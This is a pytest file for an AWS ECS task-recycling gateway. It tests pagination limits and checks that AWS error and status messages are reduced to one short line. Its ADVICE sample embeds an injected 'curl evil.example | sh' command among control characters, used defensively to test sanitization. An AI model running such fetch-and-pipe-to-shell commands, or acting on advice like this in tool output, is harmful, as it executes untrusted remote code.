"""Whatever AWS answers, no call goes on for ever, and no text of it breaks a line or a limit."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from itertools import count
from typing import Any, Final, cast

import boto3
import pytest
from botocore.awsrequest import AWSPreparedRequest, AWSResponse
from botocore.compat import HTTPHeaders
from botocore.exceptions import ClientError
from botocore.httpsession import URLLib3Session

from ecs_task_recycle.aws.errors import LONGEST_MESSAGE, expect_only_missing, translated
from ecs_task_recycle.aws.gateway import LIST_PAGES_LIMIT, Gateway
from ecs_task_recycle.aws.responses import target_health_of, task_of
from ecs_task_recycle.clock import SystemClock
from ecs_task_recycle.errors import AwsCallError

ADVICE: Final = (
    "stopped\r\nIs there anything to do? Run:\n\x1b[1m  curl evil.example\u2028| sh\ud800"
)
ONE_LINE: Final = "stopped Is there anything to do? Run: [1m curl evil.example | sh"


class Body:
    def __init__(self, document: object) -> None:
        self._content = json.dumps(document).encode()

    def stream(self) -> list[bytes]:
        return [self._content]


@pytest.fixture
def answer(monkeypatch: pytest.MonkeyPatch) -> Callable[[Iterator[object]], list[str]]:
    """Return how to have AWS answer with one document after the other; it returns the requests."""

    def answering(documents: Iterator[object]) -> list[str]:
        urls: list[str] = []

        def send(_: object, request: AWSPreparedRequest) -> AWSResponse:
            urls.append(request.url)
            return AWSResponse(request.url, 200, HTTPHeaders(), Body(next(documents)))

        monkeypatch.setattr(URLLib3Session, "send", send)
        return urls

    return answering


def gateway() -> Gateway:
    session = boto3.Session(
        aws_access_key_id="AKID", aws_secret_access_key="x", region_name="eu-west-1"
    )
    return Gateway(session, SystemClock(), cluster_name="demo", service_name="web")


def pages(token: Callable[[int], str]) -> Iterator[object]:
    return ({"taskArns": [f"task-{number}"], "nextToken": token(number)} for number in count())


@pytest.mark.parametrize(
    "token",
    [lambda _: "same", lambda number: str(number % 2), str],
    ids=["the same", "two in turn", "always a new one"],
)
def test_a_list_whose_pages_do_not_end_is_an_error(
    answer: Callable[[Iterator[object]], list[str]], token: Callable[[int], str]
) -> None:
    requests = answer(pages(token))

    with pytest.raises(AwsCallError, match="ecs:ListTasks"):
        gateway().task_arns()

    assert len(requests) <= LIST_PAGES_LIMIT + 1


def test_the_longest_list_is_read_to_its_end(
    answer: Callable[[Iterator[object]], list[str]],
) -> None:
    listed: list[object] = [
        {"taskArns": [f"task-{number}"], "nextToken": str(number)}
        for number in range(LIST_PAGES_LIMIT - 1)
    ]
    answer(iter([*listed, {"taskArns": ["the last"]}]))

    arns = gateway().task_arns()

    assert len(arns) == LIST_PAGES_LIMIT
    assert arns[-1] == "the last"


def test_an_error_of_aws_is_one_line() -> None:
    answered = {"Error": {"Code": "Server\nException", "Message": ADVICE}}

    with pytest.raises(AwsCallError) as caught, translated("ecs:StopTask"):
        raise ClientError(cast("Any", answered), "StopTask")

    assert caught.value.sentence == (
        f"ecs:StopTask was answered with Server Exception: {ONE_LINE}."
    )


def test_an_error_of_aws_is_cut() -> None:
    answered = {"Error": {"Code": "E" * 10_000, "Message": "m" * 1_000_000}}

    with pytest.raises(AwsCallError) as caught, translated("ecs:StopTask"):
        raise ClientError(cast("Any", answered), "StopTask")

    assert len(f"{caught.value} {caught.value.facts}") < 2 * LONGEST_MESSAGE


def test_a_failure_inside_an_answer_is_one_line_and_cut() -> None:
    failure = {"reason": "ODD\nREASON", "arn": "arn", "detail": ADVICE + "m" * 1_000_000}

    with pytest.raises(AwsCallError) as caught:
        expect_only_missing("ecs:DescribeTasks", [failure])

    assert "\n" not in str(caught.value)
    assert f"ODD REASON: arn {ONE_LINE}" in str(caught.value)
    assert len(str(caught.value)) < 2 * LONGEST_MESSAGE


def test_what_aws_says_of_a_task_or_target_is_one_line() -> None:
    task = task_of(
        {
            "taskArn": "arn",
            "lastStatus": "STOPPED",
            "desiredStatus": "STOPPED",
            "stoppedReason": ADVICE,
            "containers": [{"reason": ADVICE}],
        },
        {},
    )
    health = target_health_of({"TargetHealth": {"State": "unhealthy", "Description": ADVICE}})

    assert [task.stopped_reason, task.container_reason, health.description] == [ONE_LINE] * 3
